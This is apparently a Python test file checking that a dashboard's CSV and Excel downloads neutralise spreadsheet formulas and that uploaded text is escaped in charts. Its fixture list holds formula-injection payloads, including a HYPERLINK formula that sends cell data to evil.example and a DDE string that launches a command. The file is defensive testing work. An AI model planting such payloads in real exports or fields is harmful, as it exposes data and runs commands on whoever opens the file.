"""Downloads cannot carry spreadsheet formulas; text from data never becomes markup."""

import csv
import io
import re

import openpyxl
import pandas as pd
import pytest

from cib import safe_output
from tests.conftest import ROOT

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",  # full-width equals sign
]


def frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "text": ATTACKS,
            "number": [-1.5, 2, -3, 4, 5, 6, 7, 8],
            "team": pd.Categorical(["=A1", "MASH", "MASH", "MASH", "MASH", "MASH", "MASH", "x"]),
            "when": pd.to_datetime(["2018-03-01"] * 8),
        }
    )


@pytest.mark.parametrize("value", ATTACKS)
def test_each_formula_start_is_neutralised(value):
    assert safe_output.neutralise_text(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["MASH", "Assessment Team 1", "", "a=b", "3-2", "O'Neil", None, 5]
)
def test_ordinary_values_are_left_alone(value):
    assert safe_output.neutralise_text(value) == value


def test_numbers_stay_numbers_and_text_is_neutralised():
    out = safe_output.neutralise_formulas(frame())
    assert all(v.startswith("'") for v in out["text"])
    assert out["number"].tolist() == [-1.5, 2, -3, 4, 5, 6, 7, 8]  # a negative number is a value
    assert out["team"].tolist()[:2] == ["'=A1", "MASH"]
    assert out["when"].dtype.kind == "M"
    assert frame()["text"][0].startswith("=")  # the original is not changed


def test_headers_are_neutralised_too():
    out = safe_output.neutralise_formulas(pd.DataFrame({"=cmd": ["x"]}))
    assert list(out.columns) == ["'=cmd"]


def test_csv_download_has_no_formula_cells():
    body = safe_output.to_csv_bytes(frame()).decode("utf-8")
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[0] == ["text", "number", "team", "when"]
    for row in rows[1:]:
        assert not row[0].lstrip().startswith(("=", "+", "-", "@", "\uff1d")), row
        assert row[0].startswith("'")
    assert rows[1][1] == "-1.5"
    assert safe_output.to_csv_bytes(frame(), excel_bom=True).startswith(b"\xef\xbb\xbf")


def test_xlsx_download_has_no_formula_cells():
    data = safe_output.to_xlsx_bytes(frame(), sheet_name="A sheet name longer than Excel allows")
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    assert len(sheet.title) <= 31
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "formula cells"
    texts = [c.value for c in sheet["A"][1:]]
    assert texts == ["'" + a for a in ATTACKS]
    assert sheet["B2"].value == -1.5 and sheet["B2"].data_type == "n"


def test_xlsx_copes_with_time_zones_and_control_characters():
    tricky = pd.DataFrame(
        {"at": pd.to_datetime(["2018-03-01 10:00"]).tz_localize("UTC"), "t": ["a\x00b\x07c"]}
    )
    book = openpyxl.load_workbook(io.BytesIO(safe_output.to_xlsx_bytes(tricky)))
    assert book.active["B2"].value == "abc"


def test_plotly_text_shows_markup_literally():
    assert safe_output.plotly_text("<b>Bold</b> & <a href='x'>") == (
        "&lt;b&gt;Bold&lt;/b&gt; &amp; &lt;a href='x'&gt;"
    )


def test_no_unsafe_allow_html_anywhere():
    files = [ROOT / "dashboard.py", *(ROOT / "pages").glob("*.py"), *(ROOT / "cib").rglob("*.py")]
    offenders = [
        p.relative_to(ROOT).as_posix()
        for p in files
        if re.search(r"unsafe_allow_html\s*=\s*True", p.read_text(encoding="utf-8"))
    ]
    assert not offenders


HOSTILE = "<b>Bold</b> team"


def test_team_and_theme_names_on_chart_axes_show_literally():
    # Plotly renders <b>, <br> and <a href> in category labels too, so names from uploads
    # (teams, audit themes) reach the axis escaped, as chart titles already do.
    from cib.charts import assessments as assessment_charts
    from cib.charts import audits as audit_charts

    teams = pd.DataFrame(
        {
            "team": ["All", HOSTILE],
            "completed": [10, 4],
            "within_45": [8, 3],
            "within_45_pct": [80.0, 75.0],
        }
    )
    fig = assessment_charts.team_chart(teams, "Mar 2018", 83.0)
    assert list(fig.data[0].y) == [safe_output.plotly_text(HOSTILE), "Whole council"]
    grades = pd.DataFrame(
        {
            "theme": [HOSTILE] * 4 + ["Plans"] * 4,
            "grade": ["Outstanding", "Good", "Requires improvement", "Inadequate"] * 2,
            "n": [1, 2, 3, 0, 0, 1, 1, 1],
        }
    )
    fig = audit_charts.grade_bars(grades, "theme", "By theme")
    for trace in fig.data:
        assert HOSTILE not in list(trace.y)
        assert safe_output.plotly_text(HOSTILE) in list(trace.y)
